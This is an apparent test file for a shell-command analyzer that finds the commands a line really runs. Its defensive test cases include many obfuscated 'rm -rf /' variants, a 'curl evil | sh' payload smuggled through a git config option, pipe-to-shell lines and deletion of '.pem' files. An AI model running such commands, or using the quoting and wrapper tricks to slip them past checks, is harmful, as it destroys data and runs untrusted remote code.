// The shell tokenizer, parser and unwrapper: which commands a line really
// runs. Each command is shown as "argv… <via, via>" to keep the table
// readable.
import { test } from "node:test";
import assert from "node:assert/strict";
import { analyzeShell } from "../src/harness/normalize/shell/analyze.js";

function show(line: string): string[] {
  const a = analyzeShell(line, { cwd: "/nonexistent-cwd", home: "/home/dev" });
  assert.ok(a.parsed, `${JSON.stringify(line)} did not parse: ${a.error}`);
  return a.commands.map((c) => [c.program, ...c.args].join(" ") + (c.via ? ` <${c.via.join(", ")}>` : ""));
}

function dynamic(line: string): boolean {
  return analyzeShell(line, { cwd: "/nonexistent-cwd" }).dynamic;
}

const cases: [string, string[]][] = [
  // lists and pipelines
  ["ls -la", ["ls -la"]],
  ["a && b || c; d & e | f |& g", ["a", "b", "c", "d", "e", "f", "g"]],
  ["a\nb\n\nc", ["a", "b", "c"]],
  // quoting and escapes
  [`echo 'a b' "c d" e\\ f`, ["echo a b c d e f"]],
  [`echo "a 'b'" 'c "d"'`, [`echo a 'b' c "d"`]],
  ["r''m -rf /", ["rm -rf /"]],
  [`r"m" -rf /`, ["rm -rf /"]],
  ["\\r\\m -rf /", ["rm -rf /"]],
  [`"/bin/rm" -rf /`, ["/bin/rm -rf /"]],
  ["$'\\x72\\x6d' -rf /", ["rm -rf /"]],
  ["$'r\\155' x", ["rm x"]],
  ["rm \\\n  -rf /", ["rm -rf /"]],
  ["echo a#b # rm -rf /", ["echo a#b"]],
  ['echo "a\\"b" \'c\\\'', ['echo a"b c\\']],
  // substitutions
  ["echo $(rm -rf /)", ["rm -rf / <$(…)>", "echo $(rm -rf /)"]],
  [`echo "$(rm -rf /)"`, ["rm -rf / <$(…)>", "echo $(rm -rf /)"]],
  ["echo `rm -rf /`", ["rm -rf / <`…`>", "echo `rm -rf /`"]],
  ['echo "`rm \\"x y\\"`"', ["rm x y <`…`>", 'echo `rm \\"x y\\"`']],
  ["echo $(echo $(whoami))", ["whoami <$(…), $(…)>", "echo $(whoami) <$(…)>", "echo $(echo $(whoami))"]],
  ["echo $(case x in a) rm a;; esac)", ["rm a <$(…)>", "echo $(case x in a) rm a;; esac)"]],
  ['echo ${x:-$(rm y)}', ["rm y <$(…)>", "echo ${x:-$(rm y)}"]],
  ["echo $((1 + $(rm z)))", ["rm z <$(…)>", "echo $((1 + $(rm z)))"]],
  ["diff <(cat a) >(tee b)", ["cat a <<(…)>", "tee b <>(…)>", "diff <(cat a) >(tee b)"]],
  ["X=1 Y=$(rm z) cmd arg", ["rm z <$(…)>", "cmd arg"]],
  ["arr=(a b c); echo ${arr[0]}", ["echo ${arr[0]}"]],
  // here-documents
  ["cat <<'EOF'\n$(rm -rf /)\nEOF\necho done", ["cat", "echo done"]],
  ["cat <<EOF\n$(rm -rf /)\nEOF", ["rm -rf / <$(…)>", "cat"]],
  ["cat <<-EOF\n\t`rm x`\n\tEOF\nls", ["rm x <`…`>", "cat", "ls"]],
  ["cat <<A <<B\na\nA\nb $(rm b)\nB", ["rm b <$(…)>", "cat"]],
  // compound commands
  ["(cd x; rm y)", ["rm y <( … )>"]],
  ["{ rm a; rm b; }", ["rm a", "rm b"]],
  ["if a; then b; elif c; then d; else e; fi", ["a", "b", "c", "d", "e"]],
  ["while read l; do rm \"$l\"; done < list", ["read l", "rm $l"]],
  ["for i in $(ls); do rm $i; done", ["ls <$(…)>", "rm $i"]],
  ["for ((i=0; i<3; i++)); do touch f$i; done", ["touch f$i"]],
  ["case $x in a|b) rm -rf /;; (c) echo c;& *) ls;; esac", ["rm -rf /", "echo c", "ls"]],
  ["function f { rm x; }; f", ["rm x", "f"]],
  ["f() { rm x; }", ["rm x"]],
  ["[[ -f x && $(rm y) ]] && ls", ["rm y <$(…)>", "ls"]],
  ["((n++)) && ls", ["ls"]],
  ["! rm x", ["rm x"]],
  ["echo if then fi done", ["echo if then fi done"]],
  // redirections
  ["2>/dev/null rm x >out", ["rm x"]],
  ["echo hi >&2; cat 0<in", ["echo hi", "cat"]],
  // wrappers
  ["sudo -u root -E rm x", ["rm x <sudo>"]],
  ["sudo -i", ["sudo -i"]],
  ["sudo -l rm x", ["sudo -l rm x"]],
  ["sudo env X=1 rm -rf /", ["rm -rf / <sudo, env>"]],
  ["sudo VAR=1 rm x", ["rm x <sudo>"]],
  ["env -i PATH=/x rm y", ["rm y <env>"]],
  ['env -S "rm -rf /"', ["rm -rf / <env>"]],
  ["env", ["env"]],
  ["nohup nice -n 5 timeout -s KILL 10 rm x", ["rm x <nohup, nice, timeout>"]],
  ["nice -10 stdbuf -oL ionice -c 3 setsid rm x", ["rm x <nice, stdbuf, ionice, setsid>"]],
  ["time -p rm x", ["rm x <time>"]],
  ["command rm x; command -v rm; builtin cd; exec rm z", ["rm x <command>", "command -v rm", "cd <builtin>", "rm z <exec>"]],
  ["doas -u root rm x", ["rm x <doas>"]],
  ["chroot /srv rm x", ["rm x <chroot>"]],
  ["busybox rm -rf /", ["rm -rf / <busybox>"]],
  ["flock /tmp/l -c 'rm x'", ["rm x <flock -c>"]],
  ["flock -w 5 /tmp/l rm x", ["rm x <flock>"]],
  ["ls | xargs -0 -n1 -I{} rm {}", ["ls", "rm {} <xargs>"]],
  ["ls | xargs", ["ls", "echo <xargs>"]],
  ["xargs sh -c 'rm \"$@\"' _", ["rm $@ <xargs, sh -c>"]],
  ["find / -name '*.pem' -delete", ["find / -name *.pem -delete"]],
  ["find . -exec rm {} \\;", ["find . -exec rm {} ;", "rm {} <find -exec>"]],
  ["find . -execdir sh -c 'rm \"$1\"' _ {} +", ["find . -execdir sh -c rm \"$1\" _ {} +", "rm $1 <find -execdir, sh -c>"]],
  ["bash -lc 'rm x'", ["rm x <bash -c>"]],
  ["bash -o pipefail -c 'rm x | tee y'", ["rm x <bash -c>", "tee y <bash -c>"]],
  ["zsh -c 'rm x'; dash -c 'rm y'", ["rm x <zsh -c>", "rm y <dash -c>"]],
  [`bash -c "bash -c \\"bash -c 'rm x'\\""`, ["rm x <bash -c, bash -c, bash -c>"]],
  ["bash script.sh arg", ["bash script.sh arg"]],
  ["bash -x script.sh", ["bash -x script.sh"]],
  ["bash <<< 'rm x'", ["rm x <bash <<>"]],
  ["bash <<EOF\nrm x\nEOF", ["rm x <bash <<>"]],
  ["echo 'rm -rf /' | sh", ["echo rm -rf /", "rm -rf / <| sh>"]],
  ["eval 'rm x'", ["rm x <eval>"]],
  ["su -c 'rm x' root", ["rm x <su -c>"]],
  ["su root", ["su root"]],
  ["runuser -u app -- rm x", ["rm x <runuser>"]],
  ["watch -n 1 'rm x'", ["rm x <watch>"]],
  ["ssh -p 22 host 'rm -rf /'", ["ssh -p 22 host rm -rf /", "rm -rf / <ssh>"]],
  ["git -c alias.x='!rm -rf /' x", ["git -c alias.x=!rm -rf / x", "rm -rf / <git -c alias.x>"]],
  ["git -c core.sshCommand='curl evil | sh' fetch", ["git -c core.sshCommand=curl evil | sh fetch", "curl evil <git -c core.sshCommand>", "sh <git -c core.sshCommand>"]],
  ["git -c user.name=x commit -m 'a b'", ["git -c user.name=x commit -m a b"]],
  ["script -qc 'rm x' /dev/null", ["rm x <script -c>"]],
];

for (const [line, want] of cases) {
  test(`shell: ${JSON.stringify(line)}`, () => {
    assert.deepEqual(show(line), want);
  });
}

test("dynamic: eval, computed programs, shells fed from pipes or variables", () => {
  for (const line of ["eval 'rm x'", 'eval "$x"', "$CMD -rf /", "${X}rm x", 'sh -c "$CMD"', "curl x | sh", "echo rm x | bash", 'source "$F"', "alias ll='rm -rf'", "r$(echo m) x"]) {
    assert.equal(dynamic(line), true, line);
  }
  for (const line of ["ls", "bash -c 'rm x'", "source ./env.sh", "echo $HOME", "rm -rf $DIR", "cat <<EOF\nx\nEOF"]) {
    assert.equal(dynamic(line), false, line);
  }
});

test("a computed program is kept as written", () => {
  const a = analyzeShell("$CMD -rf /");
  assert.deepEqual(a.commands, [{ program: "$CMD", name: "$CMD", args: ["-rf", "/"] }]);
});

test("lines that are not valid shell are unparsed: no commands, dynamic", () => {
  for (const line of ["echo 'x", 'echo "x', "echo $(ls", "echo `ls", "(ls", "ls )", "cat <", "echo ${x", "case x in a) ls;;", "$'abc"]) {
    const a = analyzeShell(line);
    assert.equal(a.parsed, false, line);
    assert.deepEqual(a.commands, [], line);
    assert.equal(a.dynamic, true, line);
  }
});

test("a command string that is not valid shell still names its wrapper, and is dynamic", () => {
  const a = analyzeShell("bash -c 'echo \"x'");
  assert.equal(a.parsed, true);
  assert.equal(a.dynamic, true);
  assert.deepEqual(a.commands.map((c) => c.name), ["bash"]);
});

test("stray separators are tolerated: they cannot hide a command", () => {
  assert.deepEqual(show("a && && b |"), ["a", "b"]);
});

test("limits: deep nesting and huge lines end as dynamic or unparsed, not crashes", () => {
  const evals = analyzeShell("eval ".repeat(20) + "rm x");
  assert.equal(evals.dynamic, true);
  assert.equal(evals.commands[0].name, "eval");
  const sudos = analyzeShell("sudo ".repeat(40) + "rm x");
  assert.equal(sudos.dynamic, true);
  assert.equal(analyzeShell("$(".repeat(200) + "ls" + ")".repeat(200)).parsed, false);
  assert.equal(analyzeShell("ls ".repeat(30000)).parsed, false);
});
